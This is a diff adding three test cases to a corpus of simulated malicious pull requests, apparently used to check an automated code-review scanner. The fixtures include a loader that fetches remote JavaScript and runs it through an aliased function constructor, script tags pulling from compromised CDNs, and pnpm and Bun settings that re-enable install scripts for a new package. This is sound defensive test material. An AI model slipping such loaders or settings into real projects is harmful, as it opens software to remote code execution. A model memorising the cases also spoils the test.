@@ -6688,6 +6688,67 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
   },
   {
+    id: 'attack-js-function-constructor-alias-runs-download',
+    description: 'A loader that names the async function constructor `F` (`Object.getPrototypeOf(async function () {}).constructor`) and runs the text it downloads with `new F(await r.text())()`: eval under a name no rule knows, the alias followed to its call.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 73101,
+        title: 'Load remote presets',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/presets.js',
+            base: lines('export async function loadPresets() {', '  return {};', '}'),
+            head: lines('const F = Object.getPrototypeOf(async function () {}).constructor;', '', 'export async function loadPresets() {', "  const r = await fetch('https://presets-cdn.pages.dev/latest.js');", '  return new F(await r.text())();', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-polyfill-io-cdn-script',
+    description: 'Polyfill.io (June 2024): a PR adds `<script src="https://cdn.polyfill.io/v3/polyfill.min.js">` to the page and a loader that injects a script from cdn.bootcss.com, CDNs whose new owner served malware to visitors.',
+    fixture: () =>
+      attackPr({
+        repo: 'shop-front',
+        number: 73103,
+        title: 'Support older browsers',
+        files: [
+          {
+            path: 'public/index.html',
+            base: lines('<!doctype html>', '<html>', '<head>', '  <title>Shop</title>', '</head>', '</html>'),
+            head: lines('<!doctype html>', '<html>', '<head>', '  <title>Shop</title>', '  <script src="https://cdn.polyfill.io/v3/polyfill.min.js?features=default,fetch"></script>', '</head>', '</html>'),
+          },
+          {
+            path: 'src/legacy.js',
+            head: lines('export function loadJquery() {', "  const s = document.createElement('script');", "  s.src = 'https://cdn.bootcss.com/jquery/3.4.1/jquery.min.js';", '  document.head.appendChild(s);', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['compromised-cdn-script'] },
+  },
+  {
+    id: 'attack-pnpm-allows-all-builds-and-trusts-new-package',
+    description: 'A newcomer adds a dependency and lets its postinstall run: `dangerouslyAllowAllBuilds: true` in pnpm-workspace.yaml and the package in Bun\'s `trustedDependencies`, undoing the install-script protection of pnpm 10 and Bun that stopped the Shai-Hulud-style postinstall stealers.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 73105,
+        title: 'Add color helpers',
+        author: 'newcomer',
+        files: [
+          { path: 'pnpm-workspace.yaml', base: lines('packages:', "  - 'packages/*'"), head: lines('packages:', "  - 'packages/*'", 'dangerouslyAllowAllBuilds: true') },
+          {
+            path: 'package.json',
+            base: lines('{', '  "name": "tidy-format",', '  "dependencies": {', '    "chalk": "^5.3.0"', '  }', '}'),
+            head: lines('{', '  "name": "tidy-format",', '  "dependencies": {', '    "chalk": "^5.3.0",', '    "color-utilz": "^1.0.4"', '  },', '  "trustedDependencies": ["color-utilz"]', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-install-script'] },
+  },
+  {
     id: 'attack-js-writes-fetched-code-then-requires',
     description: 'A dead-drop loader that fetches text, writes it to a file in the temporary folder and requires it: eval by way of the module loader, with no eval, Function or vm on any line.',
     fixture: () =>
